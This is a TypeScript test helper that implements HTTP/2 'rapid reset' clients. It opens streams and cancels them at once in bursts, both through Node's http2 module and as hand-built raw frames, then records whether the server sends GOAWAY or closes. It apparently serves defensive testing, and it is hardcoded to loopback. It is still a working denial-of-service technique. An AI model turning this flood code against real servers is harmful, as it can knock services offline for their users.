/**
 * An HTTP/2 client that opens streams and cancels them at once (RST_STREAM CANCEL), as bench/attack-clients.ts'
 * rapid reset attacker does: bursts of `burst` streams, the next burst scheduled with setImmediate. Loopback only,
 * bounded in streams and time.
 */
import { connect as http2Connect, constants as h2, type ClientHttp2Session } from 'node:http2';
import { connect as tlsConnect } from 'node:tls';

export interface CancellingSession {
  session: ClientHttp2Session;
  /** Streams opened and cancelled so far. */
  sent(): number;
  /** The code of the first GOAWAY the server sent, if any. */
  goawayCode(): number | undefined;
  /** Opens and cancels `streams` streams in bursts; resolves when they are all sent or the session ended. */
  cancelStreams(streams: number, burst?: number): Promise<void>;
  /** Resolves true when the server ended the session (GOAWAY or close) within `timeoutMs`, false otherwise. */
  endedByServer(timeoutMs: number): Promise<boolean>;
  /** One GET on this session; resolves with its status. */
  get(path: string): Promise<number>;
}

/** Connects to 127.0.0.1:`port` (certificate for localhost) and resolves once the session is up. */
export async function cancellingSession(port: number, ca: string | Buffer): Promise<CancellingSession> {
  const session = http2Connect(`https://localhost:${port}`, {
    ca,
    servername: 'localhost',
    createConnection: () => tlsConnect({ host: '127.0.0.1', port, ca, servername: 'localhost', ALPNProtocols: ['h2'] }),
  });
  session.on('error', () => undefined);
  let sent = 0;
  let goaway: number | undefined;
  let ended = false;
  const endedListeners: (() => void)[] = [];
  const end = () => {
    ended = true;
    for (const listener of endedListeners.splice(0)) listener();
  };
  session.once('goaway', (code: number) => {
    goaway = code;
    end();
  });
  session.once('close', end);
  await new Promise<void>((resolve, reject) => {
    session.once('connect', () => resolve());
    session.once('error', reject);
  });
  const usable = () => !ended && !session.closed && !session.destroyed;
  return {
    session,
    sent: () => sent,
    goawayCode: () => goaway,
    cancelStreams(streams, burst = 100) {
      const target = sent + streams;
      return new Promise((resolve) => {
        const next = () => {
          for (let i = 0; i < burst && sent < target; i++) {
            if (!usable()) return resolve();
            try {
              const stream = session.request({ ':method': 'GET', ':path': '/ping' });
              stream.on('error', () => undefined);
              stream.close(h2.NGHTTP2_CANCEL);
              sent += 1;
            } catch {
              return resolve();
            }
          }
          if (sent < target) setImmediate(next);
          else resolve();
        };
        next();
      });
    },
    endedByServer(timeoutMs) {
      if (ended) return Promise.resolve(true);
      return new Promise((resolve) => {
        const timer = setTimeout(() => resolve(false), timeoutMs);
        endedListeners.push(() => {
          clearTimeout(timer);
          resolve(true);
        });
      });
    },
    get(path) {
      return new Promise((resolve, reject) => {
        const stream = session.request({ ':method': 'GET', ':path': path });
        let status = 0;
        stream.on('error', reject);
        stream.on('response', (headers) => (status = Number(headers[':status'])));
        stream.resume();
        stream.on('end', () => resolve(status));
      });
    },
  };
}

export interface RawRapidResetOutcome {
  /** The error code of the server's GOAWAY, if one came. */
  goawayCode?: number;
  /** Streams opened and cancelled when the GOAWAY (or the close) came. */
  sentAtEnd: number;
  /** The server closed the connection (by the time of the outcome). */
  closedByServer: boolean;
  ms: number;
}

/** :method GET, :scheme https, :path /ping, :authority localhost (HPACK, static table names, no Huffman). */
const REQUEST_BLOCK = Buffer.concat([
  Buffer.from([0x82, 0x87, 0x04, 5]),
  Buffer.from('/ping'),
  Buffer.from([0x01, 9]),
  Buffer.from('localhost'),
]);
const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/**
 * The rapid reset attacker on raw frames: HEADERS (END_STREAM) then RST_STREAM(CANCEL) for each stream, `burst`
 * streams per write, the next burst after setImmediate, up to `streams`; it reads everything the server sends, so
 * it sees the GOAWAY whatever Node's own HTTP/2 client would do with it. Ends at the GOAWAY (or, `untilClose`, when
 * the server closes the connection), or at `timeoutMs`.
 */
export function rawRapidReset(
  port: number,
  ca: string | Buffer,
  options: { streams: number; burst?: number; timeoutMs: number; untilClose?: boolean },
): Promise<RawRapidResetOutcome> {
  const burst = options.burst ?? 100;
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(h2.NGHTTP2_CANCEL);
  return new Promise((resolve) => {
    const started = Date.now();
    let sent = 0;
    let done = false;
    let received = Buffer.alloc(0);
    const socket = tlsConnect({ host: '127.0.0.1', port, ca, servername: 'localhost', ALPNProtocols: ['h2'] });
    const finish = (outcome: Omit<RawRapidResetOutcome, 'sentAtEnd' | 'ms'>) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ ...outcome, sentAtEnd: sent, ms: Date.now() - started });
    };
    let goawayCode: number | undefined;
    const timer = setTimeout(() => finish({ goawayCode, closedByServer: false }), options.timeoutMs);
    socket.on('error', () => undefined);
    socket.once('close', () => finish({ goawayCode, closedByServer: true }));
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const [type, flags] = [received[3], received[4]];
        const payload = received.subarray(9, 9 + length);
        received = received.subarray(9 + length);
        if (type === FRAME.goaway) {
          goawayCode ??= payload.readUInt32BE(4);
          if (!options.untilClose) return finish({ goawayCode, closedByServer: false });
        }
        if (type === FRAME.settings && flags === 0 && !socket.destroyed) socket.write(frame(FRAME.settings, 0x1, 0, Buffer.alloc(0)));
      }
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0, Buffer.alloc(0))]));
      const next = () => {
        if (done || socket.destroyed) return;
        const frames: Buffer[] = [];
        for (let i = 0; i < burst && sent < options.streams; i++) {
          const streamId = 2 * sent + 1;
          // END_STREAM | END_HEADERS, then the cancel.
          frames.push(frame(FRAME.headers, 0x5, streamId, REQUEST_BLOCK), frame(FRAME.rstStream, 0, streamId, rst));
          sent += 1;
        }
        socket.write(Buffer.concat(frames));
        if (sent < options.streams) setImmediate(next);
      };
      next();
    });
  });
}
